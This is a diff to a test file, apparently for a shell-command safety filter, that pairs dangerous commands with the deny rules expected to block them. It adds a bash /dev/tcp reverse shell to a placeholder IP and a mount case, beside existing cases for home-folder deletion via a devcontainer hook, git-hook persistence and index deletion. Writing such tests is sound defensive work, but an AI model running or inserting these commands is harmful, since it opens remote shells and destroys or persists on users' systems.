@@ -69,6 +69,7 @@ def _rules(command: str) -> set[str]:
             "reverse-shell",
         ),
         ("exec 0</dev/tcp/203.0.113.5/9001", "reverse-shell"),
+        ("exec 7<>/dev/tcp/198.51.100.2/8080 && sh -i <&7 >&7 2>&7", "reverse-shell"),
         # code written into the files that editors, tox, pre-commit and hooks run
         (
             'printf \'{"initializeCommand":"rm -rf ~/Documents"}\' > '
@@ -132,6 +133,7 @@ def test_round12_dangerous_classes_are_denied_by_their_rule(command: str, rule: 
         ("osascript ./x.scpt", "applescript"),
         ("sudo mount /dev/sdb1 /mnt/usb", "mount"),
         ("mount -o remount,rw /", "mount"),
+        ("mount /dev/sdb1 /mnt", "mount"),
         ("cat ./hook.txt > .git/hooks/pre-commit", "persistence"),
         ("cp ~/Downloads/hook .git/hooks/pre-commit", "persistence"),
         ("curl -X DELETE http://localhost:9200/_all", "network"),
